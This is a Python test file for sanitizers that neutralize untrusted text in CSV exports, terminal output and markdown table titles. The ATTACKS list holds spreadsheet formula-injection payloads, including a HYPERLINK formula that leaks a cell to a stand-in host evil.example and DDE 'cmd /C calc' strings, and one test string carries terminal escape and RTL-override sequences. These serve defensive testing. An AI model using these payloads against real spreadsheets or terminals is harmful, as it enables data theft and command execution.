"""Text strangers wrote, made harmless for a spreadsheet and a terminal."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.utils.untrusted import FORMULA_STARTS, csv_text, for_terminal, spreadsheet_cell, table_text

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A2,"x")', "+1+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_is_written_as_text(attack):
    frame = pd.DataFrame({"name": [attack, "Grace"], "count": [-3, 4]})
    cells = list(csv.reader(io.StringIO(csv_text(frame), newline="")))
    assert cells[1] == ["'" + attack, "-3"]  # numbers stay numbers: only text can carry a formula
    assert cells[2] == ["Grace", "4"]


def test_harmless_text_and_missing_values_are_left_alone():
    frame = pd.DataFrame({"email": ["ada@example.com", None], "note": ["a = b", "x-y"]})
    assert csv_text(frame) == frame.to_csv(index=False, lineterminator="\r\n")


@given(st.text(max_size=40))
def test_no_text_cell_starts_a_formula(text):
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell == ("'" + text if text.startswith(FORMULA_STARTS) else text)  # nothing else is touched


def test_escape_sequences_never_reach_the_terminal():
    said = "Eve\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b1m\u202egnp.exe\x00\x08 done\nnext\tline"
    assert for_terminal(said) == "Everedgnp.exe done\nnext\tline"


@given(st.text(max_size=60))
def test_nothing_that_drives_a_terminal_survives(text):
    shown = for_terminal(text)
    assert not any(c in shown for c in "\x1b\x9b\x07\x00\x08\r\u202e")


@pytest.mark.parametrize(("title", "shown"), [
    ("Adding `refs/convert/parquet`", "Adding refs/convert/parquet"),  # the Hub's parquet bot's own title
    ("Use ``a `b` c`` here", "Use a `b` c here"),  # a longer fence keeps the backticks inside it
    ("Hello <!-- hidden --> world", "Hello  world"),
    ("An unclosed <!-- comment", "An unclosed"),
    ("Plain title", "Plain title"),
])
def test_a_title_in_a_table_is_shown_as_the_hub_renders_it(title, shown):
    assert table_text(title) == shown
